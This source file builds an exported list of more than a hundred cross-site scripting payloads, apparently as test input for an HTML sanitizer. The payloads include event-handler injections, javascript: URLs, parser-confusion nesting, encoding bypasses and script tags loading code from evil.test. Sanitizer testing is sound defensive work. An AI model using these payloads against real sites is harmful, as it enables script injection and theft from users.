const CALL = "alert(1)";

/** Where script could hide in markup, one way a line. */
const BY_HAND = `
<textarea></textarea/><img src=x onerror=${CALL}></textarea>
<svg><textarea><img src=x onerror=${CALL}></textarea></svg>
<math><xmp><img src=x onerror=${CALL}></xmp></math>
<svg><a><animate attributeName="href" values="#safe;javascript:${CALL}"/>x</a></svg>
<svg><a><svg:animate attributeName="xlink:href" to="javascript:${CALL}"/>x</a></svg>
<p><noscript></p><img src=x onerror=${CALL}><a href="</noscript><img src=x onerror=${CALL}>">x</a>
<meta http-equiv="refresh" content="0;url=javascript:${CALL}">
<iframe><iframe><iframe><img src=x onerror=${CALL}></iframe>
<script>${CALL}</script>
<SCRIPT SRC=//evil.test/x.js></SCRIPT>
<script/src=//evil.test/x.js></script>
<script>${CALL}
<scr<script>ipt>${CALL}</scr</script>ipt>
<<script>${CALL}//<</script>
<script type="text/javascript" language=x>${CALL}</script >
<img src=x onerror=${CALL}>
<img src=x OnErRoR = "${CALL}">
<img src="x" onerror="${CALL}" src="y">
<img/src=x/onerror=${CALL}>
<img src=\`x\` onerror=${CALL}>
<img src='x' onload='${CALL}'/>
<img """><script>${CALL}</script>">
<img src=javascript:${CALL}>
<img srcset="javascript:${CALL} 1x, x onerror=${CALL} 2x">
<img src="data:text/html,<script>${CALL}</script>">
<img alt="<script>${CALL}</script>" src=x>
<img alt='"><script>${CALL}</script>' src=x>
<img title="&quot;&gt;&lt;script&gt;${CALL}&lt;/script&gt;" src=x>
<img lowsrc="javascript:${CALL}" dynsrc="javascript:${CALL}" src=x>
<picture><source srcset="javascript:${CALL}"><img src=x onerror=${CALL}></picture>
<a href="javascript:${CALL}">x</a>
<a href="JaVaScRiPt:${CALL}">x</a>
<a href=" javascript:${CALL}">x</a>
<a href="java\tscript:${CALL}">x</a>
<a href="java\rscript:${CALL}">x</a>
<a href="\u0001javascript:${CALL}">x</a>
<a href="java\u0000script:${CALL}">x</a>
<a href="&#106;&#97;vascript:${CALL}">x</a>
<a href="&#x6A;avascript&colon;${CALL}">x</a>
<a href="javascript&#58;${CALL}">x</a>
<a href="javascript&#x3A${CALL}">x</a>
<a href="java&Tab;script&NewLine;:${CALL}">x</a>
<a href="javascript://%0a${CALL}">x</a>
<a href="vbscript:msgbox(1)">x</a>
<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>
<a href="livescript:${CALL}">x</a>
<a href="view-source:javascript:${CALL}">x</a>
<a href="feed:javascript:${CALL}">x</a>
<a href="jar:javascript:${CALL}!/">x</a>
<a href="blob:https://evil.test/1">x</a>
<a href="filesystem:https://evil.test/1">x</a>
<a href="file:///etc/passwd">x</a>
<a href="//evil.test" ping="//evil.test" target=_blank onclick=${CALL}>x</a>
<a xlink:href="javascript:${CALL}">x</a>
<a href=x formaction=javascript:${CALL}>x</a>
<a href="mailto:a@b.c&quot; onclick=&quot;${CALL}">x</a>
<a href="tel:1<script>${CALL}</script>">x</a>
<area href="javascript:${CALL}" shape=rect>
<base href="javascript:${CALL}//"><a href="x">y</a>
<link rel=stylesheet href="javascript:${CALL}">
<link rel=import href="//evil.test">
<meta http-equiv=refresh content="0;url=javascript:${CALL}">
<meta charset="utf-7">+ADw-script+AD4-
<style>@import 'javascript:${CALL}';</style>
<style>*{background:url(javascript:${CALL})}</style>
<style><img src=x onerror=${CALL}></style>
<p style="background:url(javascript:${CALL})">x</p>
<p style="width:expression(${CALL})">x</p>
<p style="behavior:url(x.htc)">x</p>
<p style="-moz-binding:url(//evil.test/x.xml#x)">x</p>
<iframe src="javascript:${CALL}"></iframe>
<iframe srcdoc="<script>${CALL}</script>"></iframe>
<iframe src="https://www.youtube.com.evil.test/embed/abcdefghijk"></iframe>
<iframe src="https://evil.test/https://www.youtube.com/embed/abcdefghijk"></iframe>
<iframe src="https://www.youtube.com@evil.test/embed/abcdefghijk"></iframe>
<iframe src="https://www.youtube.com/embed/abcdefghijk" title='"><script>${CALL}</script>'></iframe>
<iframe src="https://www.youtube.com/embed/abcdefghijk" title="&lt;img src=x onerror=${CALL}&gt;" onload=${CALL}></iframe>
<iframe src=https://www.youtube.com/embed/x"onload="${CALL}></iframe>
<amp-youtube data-videoid='x" onclick="${CALL}'></amp-youtube>
<frameset onload=${CALL}><frame src="javascript:${CALL}"></frameset>
<object data="javascript:${CALL}"></object>
<object type="text/html" data="data:text/html,x"><param name=src value="javascript:${CALL}"></object>
<embed src="javascript:${CALL}">
<embed src="data:image/svg+xml,<svg onload=${CALL}>">
<applet code="x" archive="//evil.test"></applet>
<svg onload=${CALL}></svg>
<svg/onload=${CALL}>
<svg><script>${CALL}</script></svg>
<svg><script xlink:href="data:,${CALL}"></script></svg>
<svg><a xlink:href="javascript:${CALL}"><text>x</text></a></svg>
<svg><animate attributeName=href values="javascript:${CALL}" /></svg>
<svg><set attributeName=onmouseover to=${CALL} /></svg>
<svg><foreignObject><body onload=${CALL}></body></foreignObject></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=${CALL}>#x"></use></svg>
<svg><style><img src=x onerror=${CALL}></style></svg>
<svg><title><style><img title="</style><img src=x onerror=${CALL}>"></style></title></svg>
<svg><desc><noscript><img title="</noscript><img src=x onerror=${CALL}>"></noscript></desc></svg>
<svg></p><style><a id="</style><img src=1 onerror=${CALL}>">
<math href="javascript:${CALL}">x</math>
<math><mtext><table><mglyph><style><img src=x onerror=${CALL}></style></mglyph></table></mtext></math>
<math><mi//xlink:href="data:x,<script>${CALL}</script>">
<math><annotation-xml encoding="text/html"><img src=x onerror=${CALL}></annotation-xml></math>
<form action="javascript:${CALL}"><input type=submit></form>
<form><math><mtext></form><form><mglyph><style></math><img src onerror=${CALL}>
<button formaction="javascript:${CALL}">x</button>
<input autofocus onfocus=${CALL}>
<input type=image src=x onerror=${CALL}>
<isindex action="javascript:${CALL}" type=image>
<select autofocus onfocus=${CALL}><option><script>${CALL}</script></select>
<textarea autofocus onfocus=${CALL}></textarea>
<textarea><img src=x onerror=${CALL}></textarea/><img src=x onerror=${CALL}>
<keygen autofocus onfocus=${CALL}>
<video src=x onerror=${CALL}></video>
<video><source onerror="${CALL}" src="javascript:${CALL}"></video>
<video poster="javascript:${CALL}" autoplay onplay=${CALL}></video>
<audio src="data:text/html,x" onerror=${CALL}>
<track src="javascript:${CALL}" oncuechange=${CALL}>
<details open ontoggle=${CALL}>x</details>
<marquee onstart=${CALL}>x</marquee>
<body onload=${CALL} background="javascript:${CALL}">
<html manifest="javascript:${CALL}" xmlns:x="x"><x:script>${CALL}</x:script>
<table background="javascript:${CALL}"><tr><td background="javascript:${CALL}">x</table>
<div contenteditable autofocus tabindex=1 onfocus=${CALL}>x</div>
<div id=x style=x class="y z" name=z slot=a is=b nonce=c>x</div>
<p/onmouseover=${CALL}>x
<p onmouseover\r=\r"${CALL}">x
<p "onmouseover=${CALL}>x
<p title=">" onmouseover=${CALL}>x
<p title='\`' onmouseover=${CALL}>x
<time datetime="&quot; onmouseover=&quot;${CALL}">x</time>
<blockquote cite="javascript:${CALL}">x</blockquote>
<ol type='1" onclick="${CALL}'><li value="1 onclick=${CALL}">x</ol>
<code class='language-" onclick=${CALL}'>x</code>
<template><script>${CALL}</script></template>
<template><img src=x onerror=${CALL}></template>
<noscript><p title="</noscript><img src=x onerror=${CALL}>"></noscript>
<noembed><img title="</noembed><img src=x onerror=${CALL}>"></noembed>
<noframes><img title="</noframes><img src=x onerror=${CALL}>"></noframes>
<xmp><p title="</xmp><img src=x onerror=${CALL}>"></xmp>
<plaintext><img src=x onerror=${CALL}>
<title><img title="</title><img src=x onerror=${CALL}>"></title>
<listing>&lt;img src=x onerror=${CALL}&gt;</listing>
<option>&lt;script&gt;${CALL}&lt;/script&gt;</option>
<custom-tag onclick=${CALL}>x</custom-tag>
<x:script xmlns:x="http://www.w3.org/1999/xhtml">${CALL}</x:script>
<!--><img src=x onerror=${CALL}>-->
<!--!><img src=x onerror=${CALL}><!---->
<!-- --!><img src=x onerror=${CALL}> -->
<![CDATA[<img src=x onerror=${CALL}>]]>
<!DOCTYPE x [<!ENTITY y "<script>${CALL}</script>">]>&y;
<?xml-stylesheet href="javascript:${CALL}"?>
<?php echo '<img src=x onerror=${CALL}>' ?>
<% <img src=x onerror=${CALL}> %>
</p><img src=x onerror=${CALL}>
</script><script>${CALL}</script>
<a<img src=x onerror=${CALL}>>
<a href="x"<script>${CALL}</script>>y</a>
<img src="x:alert" onerror="eval(src)" data-src="javascript:${CALL}">
<img data-src='x" onerror="${CALL}'>
<img data-srcset="javascript:${CALL} 1x" data-original="data:text/html,x">
<dialog open onclose=${CALL}><slot onslotchange=${CALL}></slot></dialog>
<b <script>${CALL}</script>0
<div\u000bonclick=${CALL}>x</div>
<div\u00a0onclick=${CALL}>x</div>
\ufeff<script>${CALL}</script>
&lt;script&gt;${CALL}&lt;/script&gt;
&amp;lt;script&amp;gt;${CALL}
`
  .split("\n")
  .filter((line) => line !== "");

/** More than a hundred ways to bring script into an article, of our own writing. */
export const PAYLOADS: readonly string[] = [
  ...BY_HAND,
  ...BY_HAND.slice(0, 20).map((payload) => `<table><tr>${payload}<td>${payload}`),
  ...BY_HAND.slice(0, 20).map((payload) => `<a href="${payload}">x</a><p title='${payload}'>x`),
];
